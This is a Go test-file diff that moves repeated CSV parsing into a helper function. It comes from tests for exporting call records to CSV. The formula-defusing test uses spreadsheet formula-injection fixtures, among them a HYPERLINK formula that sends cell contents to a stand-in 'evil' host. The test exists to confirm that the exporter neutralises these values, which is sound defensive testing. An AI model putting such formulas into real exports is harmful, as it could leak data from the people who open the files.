@@ -23,14 +23,7 @@ func TestCallsShowTransfers(t *testing.T) {
 	if !strings.Contains(table.String(), "201 → 202 → 203") {
 		t.Errorf("table does not show the transfers:\n%s", table.String())
 	}
-	var out bytes.Buffer
-	if err := writeCallsCSV(&out, calls); err != nil {
-		t.Fatal(err)
-	}
-	rows, err := csv.NewReader(&out).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
+	rows := csvRows(t, calls)
 	if len(rows) != 2 || rows[0][len(rows[0])-1] != "transferred_to" || rows[1][len(rows[1])-1] != "202 203" {
 		t.Errorf("CSV = %q", rows)
 	}
@@ -43,14 +36,7 @@ func TestCallsCSVDefusesFormulas(t *testing.T) {
 	calls := []store.CallRecord{{ID: `=HYPERLINK("http://evil/"&A1,"x")`, Direction: store.Internal, Caller: "+4930123456",
 		CallerName: "@SUM(1)", Callee: `=HYPERLINK("//evil.example/x","y")`, Start: start, End: start,
 		Disposition: store.Failed, Cause: "-1+1", AnsweredBy: "+2*3"}}
-	var out bytes.Buffer
-	if err := writeCallsCSV(&out, calls); err != nil {
-		t.Fatal(err)
-	}
-	rows, err := csv.NewReader(&out).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
+	rows := csvRows(t, calls)
 	for i, cell := range rows[1] {
 		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && cell != "+4930123456" {
 			t.Errorf("column %s = %q", rows[0][i], cell)
@@ -59,4 +45,18 @@ func TestCallsCSVDefusesFormulas(t *testing.T) {
 	if rows[1][2] != "+4930123456" {
 		t.Errorf("caller = %q, want the number as it is", rows[1][2])
 	}
+}
+
+// csvRows is what `calls list --csv` writes for calls, read back.
+func csvRows(t *testing.T, calls []store.CallRecord) [][]string {
+	t.Helper()
+	var out bytes.Buffer
+	if err := writeCallsCSV(&out, calls); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
 }
